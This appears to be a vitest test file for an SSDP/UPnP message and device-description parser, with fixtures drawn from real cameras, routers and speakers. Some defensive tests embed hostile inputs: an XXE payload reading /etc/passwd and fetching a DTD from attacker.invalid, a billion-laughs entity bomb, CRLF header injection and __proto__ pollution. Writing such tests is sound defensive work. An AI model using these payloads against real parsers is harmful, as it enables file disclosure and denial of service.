import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import {
  buildMSearch, parseSsdp, parseDeviceDescription, buildSsdpResponse, buildNotify, buildDeviceDescription, toUpnpObservation,
} from '../../src/protocols/ssdp.js';
import { hostileInputs, noControlChars, noPrototypeKeys, polluted } from './helpers.js';

// Fixtures written from UPnP Device Architecture 1.1 §1.2–1.3 (message shapes) and the facts in the
// cited issue threads.

// home-assistant/core#46822: a Dahua SSDP search response. SERVER, LOCATION, USN and X-User-Agent as
// reported there; the other headers per UDA 1.1 §1.3.3.
const DAHUA_RESPONSE = 'HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nDATE: Thu, 01 Jan 1970 00:15:50 GMT\r\nEXT:\r\n'
  + 'LOCATION: http://192.168.1.20:49152/upnp_device_desc.xml\r\n'
  + 'SERVER: Linux/3.8.8, UPnP/1.0, ZheJiang Dahua Technology CO.,LTD. Upnp SDK\r\nX-User-Agent: redsonic\r\n'
  + 'ST: upnp:rootdevice\r\nUSN: uuid:www.dahuatech.com.device_3_0-1L047ACPAW00037::upnp:rootdevice\r\n\r\n';

// NOTIFY ssdp:alive with bare \n line ends, lower-case and oddly spaced headers (miniupnpd/minissdpd
// style; max-age 1810 as in the UniversalScanner SSDP fixture).
const NOTIFY_LF = 'NOTIFY * HTTP/1.1\nHost:239.255.255.250:1900\ncache-control:  max-age = 1810\n'
  + 'location:http://10.77.0.1:49152/rootDesc.xml\nserver: Debian/6.18.44 UPnP/1.1 MiniUPnPd/2.3.1\n'
  + 'nt: urn:schemas-upnp-org:device:InternetGatewayDevice:1\nnts: ssdp:alive\n'
  + 'usn: uuid:fc4ec57e-b051-11db-88f8-0060085db3f6::urn:schemas-upnp-org:device:InternetGatewayDevice:1\n\n';

const BYEBYE = 'NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:byebye\r\n'
  + 'USN: uuid:b3c4d5e6-0000-1000-8000-accc8e3c0419::upnp:rootdevice\r\n\r\n';

// An M-SEARCH for the Axis BasicService (axis-js)
const AXIS_MSEARCH = 'M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:urn:axis-com:service:BasicService:1\r\nMan:"ssdp:discover"\r\nMX:3\r\n\r\n';

// Axis device description (UDA 1.1 §2.3; values per axis-js RootDescription.mock.ts: manufacturer AXIS, modelName
// "AXIS M1014", modelNumber M1014, serialNumber = MAC).
const AXIS_DESC = `<?xml version="1.0"?>
<root xmlns="urn:schemas-upnp-org:device-1-0">
  <specVersion><major>1</major><minor>0</minor></specVersion>
  <URLBase>http://192.168.0.90:80/</URLBase>
  <device>
    <deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType>
    <friendlyName>AXIS M1014 - 00408C123456</friendlyName>
    <manufacturer>AXIS</manufacturer>
    <manufacturerURL>http://www.axis.com/</manufacturerURL>
    <modelDescription>AXIS M1014 Fixed Network Camera</modelDescription>
    <modelName>AXIS M1014</modelName>
    <modelNumber>M1014</modelNumber>
    <modelURL>http://www.axis.com/</modelURL>
    <serialNumber>00408C123456</serialNumber>
    <UDN>uuid:Upnp-BasicDevice-1_0-00408C123456</UDN>
    <serviceList><service><serviceType>urn:axis-com:service:BasicService:1</serviceType><serviceId>urn:axis-com:serviceId:BasicServiceId</serviceId>
      <controlURL>/upnp/control/BasicServiceId</controlURL><eventSubURL>/upnp/event/BasicServiceId</eventSubURL><SCPDURL>/scpd_basic.xml</SCPDURL></service></serviceList>
    <presentationURL>http://192.168.0.90:80/</presentationURL>
  </device>
</root>`;

// An NVR-style description with an embedded device (UDA 1.1 §2.3 deviceList), upper-case root name, and
// a leading-zero serial that must stay a string.
const NVR_DESC = '<?xml version="1.0" encoding="UTF-8"?><root xmlns="urn:schemas-upnp-org:device-1-0"><specVersion><major>1</major><minor>1</minor></specVersion>'
  + '<device><deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType><friendlyName>NVR &amp; Co</friendlyName><manufacturer>Hanwha Vision</manufacturer>'
  + '<modelName>XRN-410S</modelName><serialNumber>000123</serialNumber><UDN>uuid:1</UDN>'
  + '<deviceList><device><deviceType>urn:schemas-upnp-org:device:MediaServer:1</deviceType><modelName>Inner</modelName><UDN>uuid:2</UDN></device></deviceList>'
  + '</device></root>';

const ALL_VALID = [DAHUA_RESPONSE, NOTIFY_LF, BYEBYE, AXIS_MSEARCH, AXIS_DESC, NVR_DESC];

describe('buildMSearch', () => {
  it('builds the M-SEARCH of UDA 1.1 §1.3.2 byte for byte', () => {
    expect(buildMSearch().toString()).toBe('M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n');
  });
  it('clamps MX, supports unicast, and blocks header injection', () => {
    expect(buildMSearch({ mx: 99 }).toString()).toContain('MX: 5\r\n');
    expect(buildMSearch({ mx: 0 }).toString()).toContain('MX: 1\r\n');
    const u = buildMSearch({ st: 'upnp:rootdevice', host: '10.0.0.5:1900', unicast: true }).toString();
    expect(u).not.toContain('MX');
    expect(u).toContain('HOST: 10.0.0.5:1900\r\n');
    const inj = buildMSearch({ st: 'ssdp:all\r\nX-Evil: 1' }).toString();
    expect(inj.split('\r\n').filter((l) => l.startsWith('X-Evil'))).toEqual([]);
  });
  it('parses back as an msearch', () => {
    const m = parseSsdp(buildMSearch({ st: 'urn:axis-com:service:BasicService:1', mx: 3 }))!;
    expect(m).toMatchObject({ kind: 'msearch', st: 'urn:axis-com:service:BasicService:1', mx: 3 });
    expect(m.headers.man).toBe('"ssdp:discover"');
  });
});

describe('parseSsdp (table)', () => {
  it('Dahua response (home-assistant/core#46822)', () => {
    const m = parseSsdp(Buffer.from(DAHUA_RESPONSE))!;
    expect(m).toMatchObject({
      kind: 'response', status: 200, maxAge: 1800,
      location: 'http://192.168.1.20:49152/upnp_device_desc.xml',
      server: 'Linux/3.8.8, UPnP/1.0, ZheJiang Dahua Technology CO.,LTD. Upnp SDK',
      usn: 'uuid:www.dahuatech.com.device_3_0-1L047ACPAW00037::upnp:rootdevice', st: 'upnp:rootdevice', nt: '', nts: '',
    });
    expect(m.headers['x-user-agent']).toBe('redsonic');
    expect(m.headers.ext).toBe('');
    expect(toUpnpObservation(m, null)).toEqual({
      server: m.server, location: m.location, usn: m.usn, st: 'upnp:rootdevice',
    });
  });

  it('NOTIFY with \\n line ends and odd spacing', () => {
    const m = parseSsdp(NOTIFY_LF)!;
    expect(m).toMatchObject({
      kind: 'notify', nts: 'ssdp:alive', nt: 'urn:schemas-upnp-org:device:InternetGatewayDevice:1', maxAge: 1810,
      location: 'http://10.77.0.1:49152/rootDesc.xml', server: 'Debian/6.18.44 UPnP/1.1 MiniUPnPd/2.3.1',
    });
    expect(m.headers.host).toBe('239.255.255.250:1900');
  });

  it('byebye and Axis M-SEARCH', () => {
    expect(parseSsdp(BYEBYE)).toMatchObject({ kind: 'notify', nts: 'ssdp:byebye', nt: 'upnp:rootdevice', location: '' });
    expect(parseSsdp(AXIS_MSEARCH)).toMatchObject({ kind: 'msearch', st: 'urn:axis-com:service:BasicService:1', mx: 3 });
  });

  it('tolerates junk lines, leading blank lines, duplicate headers (first wins), and stops at the blank line', () => {
    const s = '\r\n\r\nHTTP/1.1 200 OK\r\nthis is junk\r\n: empty name\r\nBad Name: x\r\nSERVER: first\r\nserver: second\r\n'
      + 'LOCATION: http://a/\r\n\r\nBODY: not-a-header\r\n';
    const m = parseSsdp(s)!;
    expect(m.server).toBe('first');
    expect(m.headers).toEqual({ server: 'first', location: 'http://a/' });
  });

  it('ignores __proto__ and prototype-named headers', () => {
    const m = parseSsdp('HTTP/1.1 200 OK\r\n__proto__: polluted\r\nconstructor: x\r\nprototype: y\r\nST: a\r\n\r\n')!;
    expect(m.headers).toEqual({ st: 'a' });
    expect(polluted()).toBe(false);
    expect(noPrototypeKeys(m)).toBe(true);
  });

  it('cleans control characters and ANSI from values', () => {
    const m = parseSsdp('HTTP/1.1 200 OK\r\nSERVER: evil\u001b[2J\u0007\u0085name\u202e\r\n\r\n')!;
    expect(m.server).toBe('evil  name');
    expect(noControlChars(m)).toBe(true);
  });

  it('rejects non-SSDP, empty and oversize input', () => {
    for (const x of ['', 'GET / HTTP/1.1\r\n\r\n', 'HTTP/1.1 OK\r\n', 'hello', 'SSDP', 'x'.repeat(70000)]) expect(parseSsdp(x)).toBeNull();
    expect(parseSsdp(Buffer.alloc(0))).toBeNull();
    expect(parseSsdp(null as unknown as string)).toBeNull();
    expect(parseSsdp('HTTP/1.1 404 Not Found\r\n\r\n')).toMatchObject({ kind: 'response', status: 404 });
  });

  it('a damaged start line is still a search response when ST, USN and LOCATION follow (network-other-0035, Sonos ZP90)', () => {
    const raw = 'TTP/1.1 200 OK\nCACHE-CONTROL: max-age = 1800\nEXT:\nLOCATION: http://192.0.2.2:1400/xml/device_description.xml\nSERVER: Linux UPnP/1.0 Sonos/31.8-24090 (ZP90)\n'
      + 'ST: urn:schemas-upnp-org:device:ZonePlayer:1\nUSN: uuid:RINCON_000E583E9E7201400::urn:schemas-upnp-org:device:ZonePlayer:1\nX-RINCON-BOOTSEQ: 27\n\n';
    expect(parseSsdp(raw)).toMatchObject({ kind: 'response', server: 'Linux UPnP/1.0 Sonos/31.8-24090 (ZP90)', st: 'urn:schemas-upnp-org:device:ZonePlayer:1', maxAge: 1800 });
    expect(parseSsdp('TTP/1.1 200 OK\nSERVER: x\n\n')).toBeNull();
  });

  it('caps the number of headers', () => {
    const many = 'HTTP/1.1 200 OK\r\n' + Array.from({ length: 500 }, (_, i) => `X-H${i}: v`).join('\r\n') + '\r\n\r\n';
    expect(Object.keys(parseSsdp(many)!.headers).length).toBeLessThanOrEqual(64);
  });
});

// Huawei HG633 description as pasted in home-assistant/core#20893: the HTTP header block before the XML
// and the document cut off mid-tag after the first </serviceList>.
const HG633_TRUNCATED = "200\nContent-Type: text/xml; charset=\"utf-8\"\nServer: Linux UPnP/1.0 Huawei-ATP-IGD\nDate: Mon, 04 Mar 2019 21:17:51 GMT\nConnection: Keep-Alive\nContent-Length: 4057\n\n<?xml version=\"1.0\"?>\n<root xmlns=\"urn:schemas-upnp-org:device-1-0\">\n<specVersion>\n<major>1</major>\n<minor>0</minor>\n</specVersion>\n<device>\n<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType>\n<friendlyName>Huawei Home Gateway</friendlyName>\n<manufacturer>Huawei Technologies Co., Ltd.</manufacturer>\n<manufacturerURL>http://www.huawei.com</manufacturerURL>\n<modelDescription>Huawei Home Gateway</modelDescription>\n<modelName>HG633</modelName>\n<modelNumber>Huawei Model</modelNumber>\n<modelURL>http://www.huawei.com</modelURL>\n<serialNumber>D5S9X28619017352</serialNumber>\n<UDN>uuid:00e0fc37-2525-2828-2500-c894bb4e71a2</UDN>\n<UPC>000000000001</UPC>\n<serviceList>\n<service>\n<serviceType>urn:schemas-upnp-org:service:Layer3Forwarding:1</serviceType>\n<serviceId>urn:upnp-org:serviceId:L3Forwarding1</serviceId>\n<SCPDURL>/desc/L3Fwd.xml</SCPDURL>\n<controlURL>/ctrlu/Layer3Forwarding_1</controlURL>\n<eventSubURL>/evt/Layer3Forwarding_1</eventSubURL>\n</service>\n</serviceList>\n<device";

describe('parseDeviceDescription (table)', () => {
  it('a value whose closing tag had begun is whole; one cut inside is dropped', () => {
    const cut = '<root><device><friendlyName>BGH1-XLU</friendlyName><manufacturer>Panasonic</manuf';
    expect(parseDeviceDescription(cut)).toMatchObject({ friendlyName: 'BGH1-XLU', manufacturer: 'Panasonic' });
    expect(parseDeviceDescription('<root><device><friendlyName>BGH1-XLU</friendlyName><manufacturer>Pana')).not.toHaveProperty('manufacturer');
  });
  it('a truncated description with a header block in front is read up to where it stops (HG633)', () => {
    const d = parseDeviceDescription(HG633_TRUNCATED)!;
    expect(d).toMatchObject({ manufacturer: 'Huawei Technologies Co., Ltd.', modelName: 'HG633', udn: 'uuid:00e0fc37-2525-2828-2500-c894bb4e71a2',
      serviceTypes: ['urn:schemas-upnp-org:service:Layer3Forwarding:1'] });
    expect(toUpnpObservation(null, d)).toMatchObject({ modelName: 'HG633', serviceTypes: 'urn:schemas-upnp-org:service:Layer3Forwarding:1' });
    // Every cut of it parses or gives null, never throws; past the model name the model is kept.
    const at = HG633_TRUNCATED.indexOf('</modelName>') + 12;
    for (let n = 0; n <= HG633_TRUNCATED.length; n += 3) {
      const x = parseDeviceDescription(HG633_TRUNCATED.slice(0, n));
      if (n > at + 12) expect(x?.modelName, String(n)).toBe('HG633');
    }
  });
  it('Axis description', () => {
    const d = parseDeviceDescription(AXIS_DESC)!;
    expect(d).toEqual({
      deviceType: 'urn:schemas-upnp-org:device:Basic:1', friendlyName: 'AXIS M1014 - 00408C123456', manufacturer: 'AXIS',
      manufacturerURL: 'http://www.axis.com/', modelDescription: 'AXIS M1014 Fixed Network Camera', modelName: 'AXIS M1014',
      modelNumber: 'M1014', modelURL: 'http://www.axis.com/', serialNumber: '00408C123456', udn: 'uuid:Upnp-BasicDevice-1_0-00408C123456',
      presentationURL: 'http://192.168.0.90:80/', urlBase: 'http://192.168.0.90:80/', specVersion: '1.0', embedded: [],
      serviceTypes: ['urn:axis-com:service:BasicService:1'],
    });
    expect(toUpnpObservation(parseSsdp(DAHUA_RESPONSE), d)).toMatchObject({ manufacturer: 'AXIS', modelNumber: 'M1014', usn: expect.any(String) });
  });

  it('embedded devices, entity-decoded text, leading zeros kept', () => {
    const d = parseDeviceDescription(Buffer.from(NVR_DESC))!;
    expect(d.friendlyName).toBe('NVR & Co');
    expect(d.serialNumber).toBe('000123');
    expect(d.specVersion).toBe('1.1');
    expect(d.embedded).toEqual([{ deviceType: 'urn:schemas-upnp-org:device:MediaServer:1', modelName: 'Inner', udn: 'uuid:2' }]);
  });

  it('billion laughs and XXE are not expanded', () => {
    const lol = '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
      + '<root><device><manufacturer>&c;</manufacturer><modelName>ok</modelName></device></root>';
    expect(parseDeviceDescription(lol)).toMatchObject({ manufacturer: '&c;', modelName: 'ok' });
    const xxe = '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>'
      + '<root><device><manufacturer>&xxe;</manufacturer></device></root>';
    expect(parseDeviceDescription(xxe)).toMatchObject({ manufacturer: '&xxe;' });
    // a DOCTYPE whose subset hides '>' inside quotes
    const quoted = '<!DOCTYPE root [<!ENTITY q "a>b]c">]><root><device><modelName>m</modelName></device></root>';
    expect(parseDeviceDescription(quoted)).toMatchObject({ modelName: 'm' });
  });

  it('junk and non-descriptions give null', () => {
    for (const x of ['', 'lollipop', '<html><body>401</body></html>', '<root/>', '<root><device>', '<a><b>x</a>']) {
      expect(parseDeviceDescription(x)).toBeNull();
    }
    expect(parseDeviceDescription('<root><device>' + 'x'.repeat(300000) + '</device></root>')).toBeNull();
  });

  // Real captures (field corpus, tune half): cameras-other-0078 (Panasonic DC-BGH1, body cut mid-tag),
  // network-other-0037 (Sonos Playbar, a <device> fragment pasted without <root>, literal "\n" escapes).
  it('reads what is there in a truncated description', () => {
    const cut = '<?xml version="1.0"?>\n<root xmlns="urn:schemas-upnp-org:device-1-0"\n    xmlns:pana="urn:schemas-panasonic-com:pana">\n    <specVersion>\n        <major>1</major>\n        <minor>0</minor>\n    </specVersion>\n'
      + '    <device>\n        <deviceType>urn:schemas-upnp-org:device:MediaServer:1</deviceType>\n        <friendlyName>BGH1-XLU</friendlyName>\n        <manufacturer>Panasonic</manuf';
    expect(parseDeviceDescription(cut)).toMatchObject({ deviceType: 'urn:schemas-upnp-org:device:MediaServer:1', friendlyName: 'BGH1-XLU', manufacturer: 'Panasonic' });
    expect(parseDeviceDescription(cut)).not.toHaveProperty('modelName');
  });
  it('reads a <device> fragment without its <root>', () => {
    const frag = '      <device>\\n  <deviceType>urn:schemas-upnp-org:device:MediaServer:1</deviceType>\\n  <friendlyName>192.0.2.135 - Sonos Playbar Media Server</friendlyName>\\n  <manufacturer>Sonos, Inc.</manufacturer>\\n'
      + '  <manufacturerURL>http://www.sonos.com</manufacturerURL>\\n  <modelNumber>S9</modelNumber>\\n  <modelDescription>Sonos Playbar Media Server</modelDescription>\\n  <modelName>Sonos Playbar</modelName>\\n'
      + '  <UDN>uuid:RINCON_949F3EB933F501400_MS</UDN>\\n  <serviceList>\\n    <service>\\n      <serviceType>urn:schemas-upnp-org:service:ContentDirectory:1</serviceType>\\n    </service>\\n  </serviceList>\\n      </device>';
    expect(parseDeviceDescription(frag)).toMatchObject({ manufacturer: 'Sonos, Inc.', modelName: 'Sonos Playbar', modelNumber: 'S9', udn: 'uuid:RINCON_949F3EB933F501400_MS',
      serviceTypes: ['urn:schemas-upnp-org:service:ContentDirectory:1'] });
  });
  it('a description cut anywhere yields only whole field values', () => {
    const full = parseDeviceDescription(AXIS_DESC)! as unknown as Record<string, unknown>;
    fc.assert(fc.property(fc.integer({ min: 0, max: AXIS_DESC.length }), (n) => {
      const d = parseDeviceDescription(AXIS_DESC.slice(0, n)) as unknown as Record<string, unknown> | null;
      for (const [k, v] of Object.entries(d ?? {})) if (typeof v === 'string' && k !== 'specVersion') expect(v, k).toBe(full[k]);
    }), { numRuns: 300 });
  });

  it('a __proto__ element does not pollute', () => {
    const d = parseDeviceDescription('<root><device><__proto__><polluted>1</polluted></__proto__><modelName>m</modelName></device></root>')!;
    expect(d.modelName).toBe('m');
    expect(polluted()).toBe(false);
    expect(noPrototypeKeys(d)).toBe(true);
  });
});

describe('responder builders round-trip', () => {
  it('search response', () => {
    const b = buildSsdpResponse({
      st: 'upnp:rootdevice', usn: 'uuid:abc::upnp:rootdevice', location: 'http://10.77.0.3/desc.xml', server: 'Linux/6 UPnP/1.0 CamLab/1.0',
      maxAge: 120, date: new Date('2024-01-02T03:04:05Z'), extraHeaders: { 'X-User-Agent': 'redsonic', 'bad name': 'x' },
    });
    const m = parseSsdp(b)!;
    expect(m).toMatchObject({ kind: 'response', status: 200, st: 'upnp:rootdevice', usn: 'uuid:abc::upnp:rootdevice', location: 'http://10.77.0.3/desc.xml', server: 'Linux/6 UPnP/1.0 CamLab/1.0', maxAge: 120 });
    expect(m.headers.date).toBe('Tue, 02 Jan 2024 03:04:05 GMT');
    expect(m.headers['x-user-agent']).toBe('redsonic');
    expect(m.headers['bad name']).toBeUndefined();
  });

  it('notify alive and byebye', () => {
    const a = parseSsdp(buildNotify({ nt: 'upnp:rootdevice', nts: 'ssdp:alive', usn: 'uuid:1::upnp:rootdevice', location: 'http://h/d.xml', maxAge: 1810 }))!;
    expect(a).toMatchObject({ kind: 'notify', nt: 'upnp:rootdevice', nts: 'ssdp:alive', usn: 'uuid:1::upnp:rootdevice', location: 'http://h/d.xml', maxAge: 1810 });
    const b = parseSsdp(buildNotify({ nt: 'upnp:rootdevice', nts: 'ssdp:byebye', usn: 'uuid:1::upnp:rootdevice', location: 'http://h/d.xml' }))!;
    expect(b).toMatchObject({ kind: 'notify', nts: 'ssdp:byebye', location: '' });
  });

  it('device description', () => {
    const fields = {
      deviceType: 'urn:schemas-upnp-org:device:Basic:1', friendlyName: 'Cam <1> & "2"', manufacturer: 'Hangzhou Hikvision Digital Technology Co., Ltd.',
      manufacturerURL: 'http://www.hikvision.com', modelName: 'DS-2CD2143G2-I', modelNumber: 'DS-2CD2143G2-I', modelDescription: 'IP Camera',
      serialNumber: '0012345', udn: 'uuid:1234', presentationURL: 'http://10.0.0.9/',
    };
    const d = parseDeviceDescription(buildDeviceDescription({ ...fields, urlBase: 'http://10.0.0.9/', serviceTypes: ['urn:x:service:Y:1'] }))!;
    expect(d).toEqual({ ...fields, urlBase: 'http://10.0.0.9/', specVersion: '1.0', embedded: [], serviceTypes: ['urn:x:service:Y:1'] });
  });
});

describe('properties', () => {
  const inputs = hostileInputs(ALL_VALID);
  it.each([
    ['parseSsdp', parseSsdp], ['parseDeviceDescription', parseDeviceDescription],
  ] as Array<[string, (x: Buffer | string) => unknown]>)('%s never throws, no control characters', (_n, parse) => {
    fc.assert(fc.property(inputs, (x) => {
      const r = parse(x);
      expect(noControlChars(r)).toBe(true);
      expect(noPrototypeKeys(r)).toBe(true);
    }), { numRuns: 400 });
    expect(polluted()).toBe(false);
  });

  it('arbitrary header lines after a valid start line', () => {
    fc.assert(fc.property(fc.array(fc.tuple(fc.string({ maxLength: 20 }), fc.string({ maxLength: 40 })), { maxLength: 30 }), (hs) => {
      const msg = 'HTTP/1.1 200 OK\r\n' + hs.map(([k, v]) => `${k}:${v}`).join('\r\n') + '\r\n\r\n';
      const m = parseSsdp(msg);
      expect(m?.kind).toBe('response');
      expect(noControlChars(m)).toBe(true);
      expect(noPrototypeKeys(m)).toBe(true);
    }));
  });

  it('build -> parse keeps arbitrary printable header values', () => {
    fc.assert(fc.property(fc.stringMatching(/^[\x21-\x7e][\x20-\x7e]{0,60}[\x21-\x7e]$/), (v) => {
      const m = parseSsdp(buildSsdpResponse({ st: 'upnp:rootdevice', usn: v, location: 'http://h/', server: v }))!;
      expect(m.usn).toBe(v);
      expect(m.server).toBe(v);
    }));
  });
});
